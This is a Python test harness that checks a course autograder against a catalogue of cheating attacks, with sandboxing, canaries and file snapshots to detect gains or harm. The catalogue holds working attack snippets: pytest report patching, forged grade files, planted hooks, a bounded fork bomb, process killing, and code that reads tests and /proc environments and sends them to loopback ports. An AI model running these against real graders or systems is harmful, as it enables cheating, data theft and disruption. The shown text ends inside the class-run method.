"""The cheat catalogue: every attack on the grading we know, tried for real; none may gain or harm.

    python scripts/check_cheats.py [--only NAME ...] [--no-class] [--jobs N] [--keep]

The honest baseline is a learner who did steps 01-03 (copied from steps/) and
nothing after: steps 04-12 hold only `app = FastAPI()`, and 07-12 also the
reference index.html (so that the browser steps load a real page, and a page
attack runs in a page that is graded). Each cheat is that baseline plus one
attack (ATTACKS below: the step and file it goes in, the code, what it tries).
The attacks find their targets as a learner could (scripts/cheats/recon.py,
planted beside main.py): /proc, sys.argv, sys.prefix, the folders above, a
walk of the file system, and a guess of where the grader's checkout is.

Each cheat is checked twice:

* alone, `pytest --steps-dir=COPY --grade-json=J --junitxml=X` on its step and
  step 04 (which the baseline fails, so the run must fail): no step earns more
  points than the baseline's (read from J, and from X's `points` of the passed
  tests); J and X are there and agree; the exit code is not 0; nothing outside
  its copy changed (this checkout, its virtual environment, another learner's
  folder, a class folder); no process of the run is still alive after it; a
  canary listening on loopback (TCP and UDP) heard nothing; pytest's output and
  the result files hold neither a secret from pytest's environment nor the text
  of the tests;
* in a class run (scripts/grade_class.py, steps 01-04 and 07, with a hidden
  test) with two honest learners (the reference steps, and the baseline): each
  honest learner gets exactly the grade it gets alone, no cheat more than the
  baseline, the class folder is byte-identical afterwards, no process survives,
  and the same canary and secrets stay untouched.

The attacks on the later steps (15-18) run in their step's suite, alone (the class
run grades steps 01-04 and 07; each learner's run has its app host, sandbox and
database server of its own, so what they try is on the grader, not on another
learner). Some run on a throw-away PostgreSQL server (WORKSHOP_DATABASE=postgresql,
as CI runs those suites), and some plant files in the learner's folders (a .env,
databases, a conftest.py, links). What the app did is what it printed, which the
checks show with each failure: an attack prints `CHEAT RAN: ...` once it has really
tried (a run without that line fails: the attack proves nothing), and
`CHEAT GOT THROUGH: ...` for anything it did that it must not (a harm).
Argon2 replaced by a quick hash, the other cheat of step 17, is a change of a
correct app, not an attack from the baseline: it is in self_check.py's MISTAKES.

Prints one table (attack, points, baseline, verdict) and exits 1 on any gain or
harm. Takes about two minutes on two CPUs. Needs bubblewrap: the run uses
--sandbox=bwrap, as CI does.
"""

from __future__ import annotations

import argparse
import csv
import ctypes
import hashlib
import json
import os
import secrets
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import xml.etree.ElementTree as ET
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
RECON = Path(__file__).with_name("cheats") / "recon.py"
BARE_APP = "from fastapi import FastAPI\napp = FastAPI()\n"
HONEST_STEPS = ("01", "02", "03")  # the baseline's steps copied from the reference
CHECKED_STEP = "04"  # run with every attack: the baseline fails it, so every run must fail
CLASS_STEPS = "01-04,07"
GOT_THROUGH = "CHEAT GOT THROUGH"  # what an attack prints when it did what it must not (recon.got_through)
RAN = "CHEAT RAN"  # what an attack prints once it has really tried (recon.ran)
RECON_HOOK = """
import pytest


@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome, report.longrepr = "passed", None
    return report
"""
SECRET_VARIABLE = "CHEAT_CHECK_SECRET"  # in the grader's environment: must never reach any output
RUN_VARIABLE = "CHEAT_CHECK_RUN"  # marks every process a run starts (unless it clears its environment)


@dataclass
class Attack:
    name: str
    step: str  # the step folder it goes in
    file: str  # the file in that folder
    how: str  # append | write | link-folder | link-file | fifo | link-learner
    code: str  # what is appended or written (@CANARY@ becomes the canary's port, @VICTIM_DB@ a grader's database)
    tries: str
    single: bool = True  # tried in a single pytest run
    in_class: str = "yes"  # tried in the class run; "alone": in a class run of its own, with the baseline
    env: dict[str, str] = field(default_factory=dict)  # more environment for its single run
    files: dict[str, str] = field(default_factory=dict)  # planted in the steps folder (@SQLITE@: a filled database)
    proof: str = ""  # its app must print `CHEAT RAN: ...` with this in it: the attack really ran


POSTGRESQL = {"WORKSHOP_DATABASE": "postgresql"}  # the single run on a throw-away PostgreSQL server, as in CI

# Steps 17 and 18: every answer plants login cookies, and says so if one of an earlier app comes back.
PLANT_COOKIES = """
import secrets
from recon import got_through, ran

NONCE = secrets.token_hex(8)  # this app's own: a cookie with another one comes from an earlier app


@app.middleware("http")
async def plant(request, call_next):
    for name, value in request.cookies.items():
        if value.startswith("planted-") and value != f"planted-{NONCE}":
            got_through(f"the cookie {name}={value} of an earlier test's app came back")
    response = await call_next(request)
    for name in ("bookmarks_login", "session", "bookmarks_session"):
        for domain in ("", "; Domain=127.0.0.1", "; Domain=bookmarks.example", "; Domain=example"):
            response.headers.append("set-cookie", f"{name}=planted-{NONCE}; Path=/; Max-Age=31536000{domain}")
    ran("planted its cookies")
    return response
"""


ATTACKS = [
    Attack("runtest-object", "04", "main.py", "append",
           "import _pytest.python as p\np.Function.runtest = object\n",
           "make every test a no-op (102/102 when apps ran in the pytest process)"),
    Attack("report-patch", "04", "main.py", "append", """
import _pytest.reports as r
_made = r.TestReport.from_item_and_call.__func__
def _passed(cls, item, call):
    report = _made(cls, item, call)
    report.outcome, report.longrepr = "passed", None
    return report
r.TestReport.from_item_and_call = classmethod(_passed)
""", "turn every report into a pass"),
    Attack("forge-grade-files", "04", "main.py", "append", """
import atexit, signal, threading, time
from recon import forge_everything
atexit.register(forge_everything)
signal.signal(signal.SIGTERM, lambda *_: forge_everything())
threading.Thread(target=lambda: [forge_everything() or time.sleep(0.3) for _ in range(200)], daemon=True).start()
""", "rewrite --grade-json, --junitxml, grades.csv, results.json to full marks (argv, /proc, a walk)"),
    Attack("plant-hook", "04", "main.py", "append", """
from recon import plant_hooks
plant_hooks()
""", "a full-marks hook in tests/conftest.py, src/workshop/*.py and a .pth: the NEXT learner passes"),
    Attack("import-reference", "04", "main.py", "write", """
from fastapi import FastAPI
from recon import reference_app
app = reference_app("04") or FastAPI()
""", "serve the reference step's app, imported by path from the checkout"),
    Attack("link-main-to-reference", "04", "main.py", "link-file", "",
           "main.py is a link to the reference steps/04-*/main.py"),
    Attack("link-folder-to-reference", "04", "", "link-folder", "",
           "the step folder is a link to the reference steps/04-*"),
    Attack("link-page-to-reference", "07", "", "link-folder", "",
           "the step folder is a link to the reference steps/07-* (the page is served from it)"),
    Attack("exit-at-import", "03", "main.py", "append", "import os\nos._exit(0)\n",
           "os._exit(0) while imported: the grader must not take it for a pass"),
    Attack("exit-in-route", "03", "main.py", "append", """
import os
@app.middleware("http")
async def bye(request, call_next):
    os._exit(0)
""", "os._exit(0) while answering"),
    Attack("kill-the-host", "03", "main.py", "append", """
import os, signal
os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
os.kill(os.getppid(), signal.SIGKILL)
""", "kill the process that started it (the app host)"),
    Attack("daemon", "04", "main.py", "append", """
from recon import daemon, forge_everything, plant_hooks, sabotage_others
daemon(lambda: (forge_everything(), plant_hooks(), sabotage_others()), seconds=90)
""", "a setsid double-forked daemon that forges grades, plants hooks and breaks other learners' "
         "main.py for 90 s, past the end of the run"),
    Attack("exfiltrate-tests", "04", "main.py", "append", """
import glob, os
from recon import repositories, send_out, walk, quiet, read
found = [p for r in repositories() for p in glob.glob(os.path.join(r, "tests", "*.py"))]
found += [p for p in quiet(walk, "/tmp", 6) or [] if os.path.basename(p).startswith("test_")]
found += ["/proc/1/environ", "/proc/self/environ"]
for path in found:
    data = quiet(read, path)
    if data:
        send_out(data)
        print(data.decode(errors="replace")[-500:])
""", "read the tests, hidden tests and environments and send them to loopback ports"),
    Attack("output-log-environ", "04", "main.py", "append", """
import os
os.remove("../output.log")
os.symlink("/proc/self/environ", "../output.log")
""", "output.log a link to /proc/self/environ: the grader reads ITS environment as the app's output"),
    Attack("output-log-tests", "04", "main.py", "append", """
import os
targets = ["/proc/self/cwd/tests/conftest.py", "/proc/self/cwd/tests/test_04_hidden.py"]
count = len(os.listdir("../.."))  # one folder per test so far: a new target each test
os.remove("../output.log")
os.symlink(targets[count % len(targets)], "../output.log")
""", "output.log a link to the (hidden) tests, by the grader's own working folder"),
    Attack("fork-200", "04", "main.py", "append", """
import os, time
for _ in range(200):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(60)
        os._exit(0)
""", "200 processes that leave the process group (a bounded fork bomb)"),
    Attack("page-loopback", "07", "index.html", "append", """
<script>
const targets = ["http://127.0.0.1:@CANARY@/fetch", "http://localhost:@CANARY@/fetch",
  "http://[::1]:@CANARY@/fetch", "http://127.0.0.2:@CANARY@/fetch", "http://2130706433:@CANARY@/fetch",
  "http://example.com/", "http://127.0.0.1:5500/../../tests/conftest.py", "/%2e%2e/%2e%2e/tests/conftest.py"];
for (const url of targets) {
  fetch(url).then(r => r.text()).then(t => fetch("http://127.0.0.1:@CANARY@/got?" + encodeURIComponent(t)))
    .catch(() => {});
  try { navigator.sendBeacon(url, "beacon"); } catch (e) {}
  const img = new Image(); img.src = url;
}
try { new WebSocket("ws://127.0.0.1:@CANARY@/ws"); } catch (e) {}
const frame = document.createElement("iframe"); frame.src = "http://127.0.0.1:@CANARY@/frame";
document.body.append(frame);
</script>
""", "the page's JavaScript reaches other loopback ports and other origins (fetch, beacon, img, ws, iframe)"),
    Attack("page-webrtc", "07", "index.html", "append", """
<script>
const pc = new RTCPeerConnection({iceServers: [
  {urls: "stun:127.0.0.1:@CANARY@"},
  {urls: ["turn:127.0.0.1:@CANARY@?transport=udp", "turn:127.0.0.1:@CANARY@?transport=tcp"],
   username: "leaked-by-the-page", credential: "x"}]});
pc.createDataChannel("out");
pc.createOffer().then(offer => pc.setLocalDescription(offer));
</script>
""", "the page's JavaScript sends UDP/TCP to a loopback port through WebRTC (STUN/TURN by IP)"),
    Attack("fifo-in-folder", "04", "data.fifo", "fifo", "",
           "a named pipe in the step folder (copying it blocks or fails)", in_class="alone"),
    # The later steps (14-18): a database server, the learner's own files, a static route, cookies.
    Attack("postgres-other-databases", "15", "main.py", "append", """
from recon import postgres_attempts
postgres_attempts()
""", "on the grader's PostgreSQL (CI): log in as postgres, reach the server's and other tests' databases "
         "(its own role, URLs found in the forked host's memory), read files, run programs, become superuser",
           in_class="no", env=POSTGRESQL, proof="found its own URL in its memory"),
    Attack("planted-env-and-database", "15", "main.py", "append", """
from recon import planted_files_reached
planted_files_reached()
""", "a .env that sets the harness's variables (WORKSHOP_SANDBOX=none, PYTEST_ADDOPTS, DATABASE_URL at the "
         "grader's server as postgres), databases filled beforehand (bookmarks.db, *.sqlite*), a conftest.py and "
         "a pytest.ini in the learner's folders: none reaches the checks' copy or pytest",
           in_class="no", env=POSTGRESQL, proof="looked for", files={
               "15-database/.env": "CHEAT_FROM_ENV_FILE=1\nWORKSHOP_SANDBOX=none\nWORKSHOP_DATABASE=sqlite\n"
                                   "PYTEST_ADDOPTS=-p no:workshop\n"
                                   "DATABASE_URL=postgresql+psycopg://postgres@/postgres?host=/tmp\n",
               "15-database/bookmarks.db": "@SQLITE@", "15-database/old.sqlite": "@SQLITE@",
               "15-database/data.sqlite3": "@SQLITE@", "15-database/db/bookmarks.db": "@SQLITE@",
               "15-database/conftest.py": "@HOOK@", "conftest.py": "@HOOK@",
               "pytest.ini": "[pytest]\naddopts = -p no:workshop -p no:randomly\n",
           }),
    Attack("static-route-everything", "18", "main.py", "append", """
from fastapi.responses import HTMLResponse
from fastapi.staticfiles import StaticFiles
from fastapi import Request
from recon import REPO_GUESS, ran

app.mount("/fs", StaticFiles(directory="/", follow_symlink=True), name="fs")
app.mount("/up", StaticFiles(directory="../..", follow_symlink=True), name="up")
app.mount("/here", StaticFiles(directory=".", follow_symlink=True), name="here")
TARGETS = [f"/fs{REPO_GUESS}/tests/conftest.py", "/fs/proc/1/environ", "/fs/proc/self/environ",
           "/here/leak-tests", "/here/leak-environ", "/up/1/18-login-page/main.py", "/fs/tmp/"]
PAGE = ("<!doctype html><title>Bookmarks</title><script>(async () => { const got = [];"
        f"for (const url of {TARGETS!r}) {{ try {{ const r = await fetch(url);"
        "got.push(url + ' ' + r.status + ' ' + (await r.text()).slice(0, 200)); } catch (e) { got.push(url + e); } }"
        "await fetch('/loot', {method: 'POST', body: got.join(' | ')}); })();</script>")  # no <form>: fails its check


@app.get("/")
def page():
    return HTMLResponse(PAGE)


@app.post("/loot")
async def loot(request: Request):
    ran("the page read through the static routes: " + (await request.body()).decode(errors="replace")[:2000])
""",
           "one origin (16 on): the app serves / (the file system), ../.. (every copy) and its folder, with links "
           "to the tests and /proc/self/environ, through StaticFiles; the page it serves at / (opened first by "
           "suite 18) reads them all and posts them back to be printed",
           in_class="no", proof="the page read", files={
               "18-login-page/leak-tests": f"@LINK@{REPO}/tests/conftest.py",
               "18-login-page/leak-environ": "@LINK@/proc/self/environ",
           }),
    Attack("users-cookie-from-before", "17", "main.py", "append", PLANT_COOKIES,
           "every answer plants year-long login cookies (for every domain it may be asked at): an earlier test's "
           "cookie must never reach a later test's app (the checks' HTTP clients start empty)",
           in_class="no", proof="planted its cookies"),
    # The same in the browser: suite 18's page checks, each with a browser context of its own.
    Attack("users-cookie-from-before-page", "18", "main.py", "append", PLANT_COOKIES,
           "the same in the browser: an earlier page check's cookie must never reach a later one's app "
           "(each test's browser context starts empty)",
           in_class="no", proof="planted its cookies"),
    # The checks read and write the app's files after it ran (a database taken down, what a
    # sign-up wrote): through links it put there they would reach the grader's files.
    Attack("links-out-of-its-copy", "16", "main.py", "append", """
import os
from recon import ran

for name in ("bookmarks.db", "grader.db"):  # links in its folder to a database of the grader's
    try:
        os.remove(name)
    except FileNotFoundError:
        pass
    os.symlink("@VICTIM_DB@", name)
ran("put links to the grader's database in its folder")


created = []  # just enough to reach the check that takes the database down, and no point


@app.post("/bookmarks", status_code=201)
def create(bookmark: dict):
    created.append(bookmark)
    return {"id": len(created), **bookmark}


@app.get("/health")
def health():
    return {"status": "ok"} if created else {"status": "no bookmark yet"}


from fastapi.staticfiles import StaticFiles  # noqa: E402 - serves its own folder: fails that check

app.mount("/static", StaticFiles(directory="."), name="static")
""", "links in its folder (bookmarks.db, grader.db) to a SQLite database of the grader's: the check that takes "
         "the app's database down (suite 16) must not write over it, nor any check read it",
           in_class="no", proof="put links"),
    # The hand-in itself: links to the grader's files, which the checks of the deployment files read.
    Attack("hand-in-links-to-graders-files", "16", "main.py", "append", """
from recon import ran

ran("handed in links to the grader's files")
""", "a hand-in whose Dockerfile, requirements.txt and compose.yaml are links to a file of the grader's "
         "(one that is no valid YAML, whose error would quote it): no check reads it, no message shows it",
           in_class="no", proof="handed in links", files={
               "16-one-origin/Dockerfile": "@LINK@@VICTIM@/secret.yaml",
               "16-one-origin/requirements.txt": "@LINK@@VICTIM@/secret.yaml",
               "16-one-origin/compose.yaml": "@LINK@@VICTIM@/secret.yaml",
           }),
    Attack("link-learner-to-reference", "", "", "link-learner", "",
           "the learner's folder is a link to the reference steps/", single=False),
]


# --- Building learners ----------------------------------------------------------------


def reference_folders() -> dict[str, Path]:
    return {path.name[:2]: path for path in sorted((REPO / "steps").iterdir()) if path.name[:2].isdigit()}


def make_baseline(target: Path) -> Path:
    """The honest baseline: 01-03 done, 04-12 only `app = FastAPI()` (07-12 with the reference page)."""
    target.mkdir(parents=True)
    for number, source in reference_folders().items():
        folder = target / source.name
        if number in HONEST_STEPS:
            shutil.copytree(source, folder)
            continue
        folder.mkdir()
        (folder / "main.py").write_text(BARE_APP, encoding="utf-8")
        if (source / "index.html").is_file():
            shutil.copy2(source / "index.html", folder / "index.html")
    return target


def make_cheat(target: Path, attack: Attack, canary: int, victim_db: Path | None = None) -> Path:
    """The baseline plus one attack (and recon.py beside the attacked main.py)."""
    make_baseline(target)
    for name, text in attack.files.items():
        plant(target / name, text.replace("@VICTIM@", str(victim_db.parent if victim_db else "")))
    if not attack.step:
        return target
    reference = reference_folders()[attack.step]
    folder = target / reference.name
    recon = f"CANARY_PORT = {canary}\nREPO_GUESS = {str(REPO)!r}\n" + RECON.read_text(encoding="utf-8")
    (folder / "recon.py").write_text(recon, encoding="utf-8")
    code = attack.code.replace("@CANARY@", str(canary)).replace("@VICTIM_DB@", str(victim_db))
    path = folder / attack.file
    if attack.how == "append":
        with open(path, "a", encoding="utf-8") as stream:
            stream.write("\n" + code)
    elif attack.how == "write":
        path.write_text(code, encoding="utf-8")
    elif attack.how == "link-file":
        path.unlink()
        path.symlink_to(reference / attack.file)
    elif attack.how == "link-folder":
        shutil.rmtree(folder)
        folder.symlink_to(reference, target_is_directory=True)
    elif attack.how == "fifo":
        os.mkfifo(path)
    else:
        raise ValueError(attack.how)
    return target


def plant(path: Path, text: str) -> None:
    """A file the attack puts in the learner's folder: text, a filled SQLite database (@SQLITE@),
    a full-marks pytest hook (@HOOK@) or a symbolic link (@LINK@target)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if text.startswith("@LINK@"):
        path.symlink_to(text.removeprefix("@LINK@"))
    elif text == "@SQLITE@":
        with sqlite3.connect(path) as database:
            database.execute("CREATE TABLE bookmarks (id INTEGER PRIMARY KEY, url TEXT, title TEXT, description TEXT)")
            database.executemany("INSERT INTO bookmarks (url, title, description) VALUES (?, ?, ?)",
                                 [(f"https://example.com/{n}", f"Filled beforehand {n}", "") for n in range(50)])
        database.close()
    elif text == "@HOOK@":
        path.write_text(RECON_HOOK, encoding="utf-8")
    else:
        path.write_text(text, encoding="utf-8")


def make_learner(folder: Path, attack: Attack | None, canary: int) -> None:
    if attack is not None and attack.how == "link-learner":
        folder.symlink_to(REPO / "steps", target_is_directory=True)
    elif attack is None:
        make_baseline(folder)
    else:
        make_cheat(folder, attack, canary)


# --- What must stay untouched -------------------------------------------------------


class Canary:
    """A TCP and a UDP listener on one loopback port: nothing a learner runs may reach it."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.closed = False
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.tcp.listen(64)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        for target in (self._accept, self._receive):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            if self.closed:
                connection.close()
                return
            connection.settimeout(0.5)
            try:
                data = connection.recv(200)
            except OSError:
                data = b""
            self.heard.append(f"TCP {data[:60]!r}")
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                data, _ = self.udp.recvfrom(2048)
            except OSError:
                return
            if self.closed:
                return
            self.heard.append(f"UDP {data[:20]!r}")

    def close(self) -> None:
        self.closed = True
        for sock in (self.tcp, self.udp):
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            sock.close()


def snapshot(folders: list[Path]) -> dict[str, str]:
    """Every file under the folders: content hashes (stat for the virtual environment, which is big)."""
    state: dict[str, str] = {}
    for top in folders:
        for folder, subfolders, files in os.walk(top):
            subfolders[:] = [name for name in subfolders if name != ".git" and Path(folder, name) != VENV]
            for name in files + [d for d in subfolders if Path(folder, d).is_symlink()]:
                path = Path(folder, name)
                try:
                    info = path.lstat()
                    if path.is_symlink():
                        digest = "link:" + os.readlink(path)
                    elif not path.is_file():
                        digest = f"special:{info.st_mode:o}"
                    else:
                        digest = hashlib.sha1(path.read_bytes()).hexdigest()
                except OSError as error:
                    digest = f"unreadable: {error}"
                state[str(path)] = f"{digest} {info.st_mode:o}"
    for folder, _subfolders, files in os.walk(VENV):
        for name in files:
            path = os.path.join(folder, name)
            try:
                info = os.lstat(path)
                state[path] = f"{info.st_size} {info.st_mtime_ns} {info.st_mode:o}"
            except OSError:
                pass
    return state


def changes(before: dict[str, str], after: dict[str, str]) -> list[str]:
    found = [f"changed {path}" for path in before if path in after and before[path] != after[path]]
    found += [f"removed {path}" for path in before if path not in after]
    found += [f"added {path}" for path in after if path not in before]
    return sorted(found)


VENV = Path(sys.prefix)
PR_SET_CHILD_SUBREAPER = 36


def reap_after(command: list[str], report: str) -> int:
    """`--reap REPORT -- COMMAND`: run COMMAND as this process's child, with this process its
    subreaper: whatever the run leaves behind (a double-forked daemon) becomes our child. After
    the run, what is still alive is written to REPORT and killed (it was started by the run)."""
    ctypes.CDLL(None, use_errno=True).prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
    code = subprocess.call(command, stdin=subprocess.DEVNULL)
    time.sleep(0.5)  # a daemon's first move
    left = []
    for name in os.listdir("/proc"):
        try:
            status = Path(f"/proc/{name}/status").read_text()
        except OSError:
            continue
        if f"\nPPid:\t{os.getpid()}\n" in status:
            try:
                command_line = Path(f"/proc/{name}/cmdline").read_bytes().replace(b"\0", b" ").decode()[:80]
            except OSError:
                command_line = "?"
            if "State:\tZ" not in status:
                left.append(f"pid {name}: {command_line}")
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    while True:
        try:
            os.wait()
        except ChildProcessError:
            break
    Path(report).write_text(json.dumps(left), encoding="utf-8")
    return code


def marked_processes(run_name: str) -> list[str]:
    """Anything still alive whose environment carries the run's mark (killed: the run started it)."""
    found = []
    for name in os.listdir("/proc"):
        try:
            marked = f"{RUN_VARIABLE}={run_name}\0".encode() in Path(f"/proc/{name}/environ").read_bytes()
        except OSError:
            continue
        if marked:
            found.append(f"pid {name}")
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    return found


def run(command: list[str], run_name: str, environment: dict[str, str], timeout: float, report: Path
        ) -> tuple[int, str, list[str]]:
    """The command's exit code, its output and the processes it left behind."""
    wrapped = [sys.executable, __file__, "--reap", str(report), "--", *command]
    try:
        result = subprocess.run(wrapped, cwd=REPO, env={**environment, RUN_VARIABLE: run_name},
                                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                timeout=timeout)
        code, output = result.returncode, result.stdout.decode(errors="replace")
    except subprocess.TimeoutExpired as expired:
        code, output = -1, (expired.stdout or b"").decode(errors="replace") + f"\n(killed after {timeout:g} s)"
    try:
        left = json.loads(report.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        left = ["(the reaper left no report)"]
    return code, output, left + marked_processes(run_name)


# --- Reading the results ----------------------------------------------------------


def points_from_json(path: Path) -> dict[str, float]:
    document = json.loads(path.read_text(encoding="utf-8"))
    steps = {row["step"]: float(row["points"]) for row in document["extra_data"]["steps"]}
    if abs(sum(steps.values()) - float(document["score"])) > 1e-9:
        raise ValueError(f"score {document['score']} is not the sum of its steps")
    tests = sum(float(test["score"]) for test in document["tests"])
    if abs(tests - float(document["score"])) > 1e-9:
        raise ValueError(f"score {document['score']} is not the sum of its tests ({tests})")
    return steps


def points_from_junit(path: Path) -> dict[str, float]:
    steps: dict[str, float] = {}
    for case in ET.parse(path).getroot().iter("testcase"):
        properties = {p.get("name"): p.get("value") for p in case.iter("property")}
        if "step" not in properties:
            continue
        step = str(properties["step"])
        steps.setdefault(step, 0.0)
        if not any(child.tag in ("failure", "error", "skipped") for child in case):
            steps[step] += float(properties.get("points") or 0)
    return steps


@dataclass
class Verdict:
    name: str
    points: dict[str, float] = field(default_factory=dict)
    baseline: dict[str, float] = field(default_factory=dict)
    problems: list[str] = field(default_factory=list)  # gain or harm
    notes: list[str] = field(default_factory=list)
    seconds: float = 0.0

    @property
    def ok(self) -> bool:
        return not self.problems


def leaks(texts: list[str], secret: str, markers: list[str]) -> list[str]:
    found = []
    for text in texts:
        if secret in text:
            found.append("the grader's secret (from its environment or the hidden test) is in the output")
        found += [f"the tests' text is in the output ({marker[:40]!r})" for marker in markers if marker in text]
    return sorted(set(found))


def test_markers() -> list[str]:
    """Lines of the tests that a grader's output never shows: conftest.py's first line."""
    first = (REPO / "tests" / "conftest.py").read_text(encoding="utf-8").splitlines()[0].strip('"')
    return [first[:60]]


# --- The runs ------------------------------------------------------------------------


class Checker:
    def __init__(self, work: Path) -> None:
        self.work = work
        self.secret = secrets.token_hex(12)
        self.environment = {**os.environ, SECRET_VARIABLE: self.secret, "PYTHONDONTWRITEBYTECODE": "1"}
        self.environment.pop("PYTEST_ADDOPTS", None)
        self.markers = test_markers()
        make_baseline(work / "victim" / "steps")  # another learner's folder, beside the cheat's
        self.victim_db = work / "victim" / "grader.db"  # a database of the grader's, outside every copy
        plant(self.victim_db, "@SQLITE@")
        # A file of the grader's that quotes the secret, and is no valid YAML (an error would quote it).
        plant(work / "victim" / "secret.yaml", f"CMD {self.secret}\nservices: [{self.secret}\n")
        self.watched = [REPO, work / "victim"]

    def watch(self, verdict: Verdict, before: dict[str, str], canaries: list[Canary], left: list[str]) -> None:
        """What every run must leave alone: files, processes, the canaries."""
        if left:
            verdict.problems.append(f"HARM: {len(left)} processes still alive after the run: {left[0]}")
        changed = changes(before, snapshot(self.watched))
        if changed:
            verdict.problems.append(f"HARM: {len(changed)} files outside its copy changed: {changed[0]}")
        for canary in canaries:
            canary.close()
            if canary.heard:
                verdict.problems.append(f"HARM: a loopback port it must not reach heard it "
                                        f"{len(canary.heard)} times: {canary.heard[0]}")

    def pytest(self, name: str, steps_dir: Path, numbers: list[str], canary: Canary | None,
               env: dict[str, str] | None = None, proof: str = "") -> Verdict:
        out = steps_dir.parent / "out"
        out.mkdir()
        grade_json, junit = out / "results.json", out / "junit.xml"
        suites = [str(next((REPO / "tests").glob(f"test_{n}_*.py")).relative_to(REPO)) for n in numbers]
        command = [sys.executable, "-m", "pytest", *suites, "-q", "-p", "no:cacheprovider", "--sandbox=bwrap",
                   f"--steps-dir={steps_dir}", f"--grade-json={grade_json}", f"--junitxml={junit}", "--timeout=60"]
        verdict = Verdict(name)
        before = snapshot(self.watched)
        started = time.monotonic()
        code, output, left = run(command, name, {**self.environment, **(env or {})}, 300,
                                 steps_dir.parent / "reaper.json")
        verdict.seconds = time.monotonic() - started
        self.watch(verdict, before, [canary] if canary else [], left)
        if code == 0:
            verdict.problems.append("GAIN: pytest exited 0, although the baseline fails step 04")
        texts = [output]
        for path, read in ((grade_json, points_from_json), (junit, points_from_junit)):
            if not path.is_file():
                verdict.problems.append(f"HARM: {path.name} is missing (pytest exited {code})")
                continue
            texts.append(path.read_text(encoding="utf-8", errors="replace"))
            try:
                found = read(path)
            except (ValueError, KeyError, TypeError, ET.ParseError) as error:
                verdict.problems.append(f"HARM: {path.name} is not a valid result: {error}")
                continue
            if verdict.points and found != verdict.points:
                verdict.problems.append(f"HARM: results.json says {verdict.points}, junit.xml says {found}")
            verdict.points = verdict.points or found
        verdict.problems += [f"HARM: {leak}" for leak in leaks(texts, self.secret, self.markers)]
        verdict.problems += sorted({f"HARM: the attack says: {line.strip()[:160]}" for text in texts
                                    for line in text.splitlines() if GOT_THROUGH in line})
        if proof and not any(RAN in line and proof in line for line in output.splitlines()):
            verdict.problems.append(f"NOT TRIED: its app never printed {RAN}: ...{proof}... (did its code run?)")
        (steps_dir.parent / "pytest.log").write_text(output, encoding="utf-8")  # read with --keep
        return verdict

    def baseline(self) -> dict[str, float]:
        """The baseline's points per step, from one run of every step an attack uses."""
        numbers = sorted({attack.step for attack in ATTACKS if attack.step} | {CHECKED_STEP})
        verdict = self.pytest("baseline", make_baseline(self.work / "single" / "baseline" / "steps"), numbers, None)
        problems = [p for p in verdict.problems if not p.startswith("GAIN: pytest exited 0")]
        if problems or set(verdict.points) != set(numbers):
            raise SystemExit(f"the baseline's own run went wrong: {problems or verdict.points}")
        return verdict.points

    def single(self, attack: Attack, baseline: dict[str, float]) -> Verdict:
        canary = Canary()
        steps = make_cheat(self.work / "single" / attack.name / "steps", attack, canary.port, self.victim_db)
        numbers = sorted({attack.step, CHECKED_STEP})
        verdict = self.pytest(attack.name, steps, numbers, canary, attack.env, attack.proof)
        verdict.baseline = {number: baseline[number] for number in numbers}
        for number in numbers:
            if verdict.points.get(number, 0) > baseline[number]:
                verdict.problems.insert(0, f"GAIN: step {number} earned {verdict.points[number]:g}, "
                                           f"the baseline {baseline[number]:g}")
        return verdict

    # --- the class run

    def grade_class(self, name: str, learners: dict[str, Attack | None], hidden: Path
                    ) -> tuple[dict[str, dict[str, float]], Verdict]:
        """One run of scripts/grade_class.py on a class of `learners`: their points per step."""
        class_dir, out = self.work / name, self.work / f"{name}-grades"
        class_dir.mkdir()
        canaries = {learner: Canary() for learner in learners}
        for learner, attack in learners.items():
            if learner == "honest-full":
                shutil.copytree(REPO / "steps", class_dir / learner / "steps")
            else:
                make_learner(class_dir / learner, attack, canaries[learner].port)
        verdict = Verdict(name)
        before = snapshot(self.watched)
        submitted = snapshot([class_dir])
        command = [sys.executable, str(REPO / "scripts" / "grade_class.py"), str(class_dir), "--out", str(out),
                   "--steps", CLASS_STEPS, "--hidden", str(hidden), "--quiet"]
        started = time.monotonic()
        code, output, left = run(command, name, {**self.environment, "WORKSHOP_SANDBOX": "bwrap"}, 600,
                                 self.work / f"{name}-reaper.json")
        verdict.seconds = time.monotonic() - started
        self.watch(verdict, before, [], left)
        touched = changes(submitted, snapshot([class_dir]))
        if touched:
            verdict.problems.append(f"HARM: {len(touched)} files of the class folder changed: {touched[0]}")
        if code != 0:
            verdict.problems.append(f"HARM: grade_class.py exited {code}: {output.strip().splitlines()[-1:]}")
        grades: dict[str, dict[str, float]] = {}
        if (out / "grades.csv").is_file():
            with open(out / "grades.csv", encoding="utf-8") as stream:
                rows = list(csv.reader(stream))
            steps = rows[0][1:-2]
            for row in rows[1:]:
                cells = zip(steps, row[1:-2], strict=True)
                grades[row[0]] = {step: float(value) for step, value in cells if value != "-"}
            for learner in learners:
                try:
                    from_json = points_from_json(out / learner / "results.json")
                except (OSError, ValueError, KeyError) as error:
                    verdict.problems.append(f"HARM: {learner}/results.json: {error}")
                    continue
                if from_json != grades.get(learner):
                    verdict.problems.append(f"HARM: {learner}: grades.csv {grades.get(learner)} "
                                            f"but results.json {from_json}")
